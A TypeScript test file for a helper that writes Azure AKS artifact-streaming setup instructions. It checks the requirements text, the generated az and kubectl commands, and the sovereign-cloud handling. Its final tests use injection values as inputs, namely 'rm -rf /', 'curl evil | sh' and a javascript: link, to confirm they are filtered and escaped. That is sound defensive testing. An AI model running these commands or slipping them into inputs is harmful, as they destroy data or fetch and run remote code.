import * as assert from 'node:assert/strict';
import { aksStreamingHelp } from '../../../../src/core/azure/aksHelp';
import { AZURE_CLOUDS, parseCustomCloud } from '../../../../src/core/azure/clouds';

/** The shell lines inside ```sh fences. */
function commands(markdown: string): string[] {
  return [...markdown.matchAll(/```sh\n\s*(.*)\n\s*```/g)].map((m) => m[1]);
}

describe('Stream on AKS help', () => {
  const help = aksStreamingHelp({ registryName: 'streamingdemo', loginServer: 'streamingdemo.azurecr.io', cloud: AZURE_CLOUDS.AzureCloud, imageReference: 'samples/hello:1.0' });

  it('states what AKS needs', () => {
    for (const fact of [/Kubernetes 1\.26/, /Ubuntu 20\.04/, /Azure Linux/, /linux\/amd64/, /Premium/, /customer-managed keys/, /`regcred`.*not supported/, /by digest.*no streaming message/, /Streaming Image/]) {
      assert.match(help, fact);
    }
  });

  it('gives the commands with the registry filled in and placeholders marked', () => {
    const lines = commands(help);
    assert.deepEqual(lines, [
      'az aks update -n <cluster> -g <resource-group> --attach-acr streamingdemo',
      'az aks nodepool add --cluster-name <cluster> -g <resource-group> --name streamingpool --enable-artifact-streaming',
      'az aks nodepool update --cluster-name <cluster> -g <resource-group> --name <node-pool> --enable-artifact-streaming',
      'kubectl run streaming-check --image=streamingdemo.azurecr.io/samples/hello:1.0',
      'kubectl describe pod <pod>',
    ]);
    assert.match(help, /Replace `<cluster>` and `<resource-group>`/);
    assert.ok(!/az cloud set/.test(help), 'no cloud switch for public Azure');
  });

  it('switches the Azure CLI to a sovereign cloud first', () => {
    const china = aksStreamingHelp({ loginServer: 'demo1.azurecr.cn', cloud: AZURE_CLOUDS.AzureChinaCloud });
    assert.equal(commands(china)[0], 'az cloud set --name AzureChinaCloud');
    assert.match(commands(china)[1], /--attach-acr demo1$/, 'the name comes from the login server');
    const gov = aksStreamingHelp({ loginServer: 'demo1.azurecr.us', cloud: AZURE_CLOUDS.AzureUSGovernment });
    assert.equal(commands(gov)[0], 'az cloud set --name AzureUSGovernment');
    const custom = aksStreamingHelp({ loginServer: 'demo1.azurecr.io', cloud: parseCustomCloud({ resourceManagerEndpoint: 'https://arm.example.com' }) });
    assert.equal(commands(custom)[0], 'az cloud set --name <your-cloud>');
  });

  it('deploys by tag even when a digest is given with it, and skips an invalid image', () => {
    const digest = `sha256:${'a'.repeat(64)}`;
    const withDigest = aksStreamingHelp({ loginServer: 'streamingdemo.azurecr.io', cloud: AZURE_CLOUDS.AzureCloud, imageReference: `samples/hello:1.0@${digest}` });
    assert.ok(commands(withDigest).includes('kubectl run streaming-check --image=streamingdemo.azurecr.io/samples/hello:1.0'));
    const invalid = aksStreamingHelp({ loginServer: 'streamingdemo.azurecr.io', cloud: AZURE_CLOUDS.AzureCloud, imageReference: 'samples/hello:1.0; rm -rf /' });
    assert.ok(!/kubectl run/.test(invalid));
  });

  it('never puts unvalidated registry text into commands, and escapes it in prose', () => {
    const hostile = aksStreamingHelp({
      registryName: 'x`; curl evil | sh; `',
      loginServer: 'evil.example.com/[click](javascript:alert(1))',
      cloud: AZURE_CLOUDS.AzureCloud,
      imageReference: 'samples/hello:1.0',
    });
    const lines = commands(hostile);
    assert.equal(lines[0], 'az aks update -n <cluster> -g <resource-group> --attach-acr <registry-name>');
    assert.ok(lines.every((line) => !/evil|curl/.test(line)), lines.join('\n'));
    assert.ok(!hostile.includes('[click](javascript'), 'the link is escaped');
    assert.match(hostile, /evil\\\.example\\\.com\/\\\[click\\\]\\\(javascript\\:alert\\\(1\\\)\\\)/);
  });
});
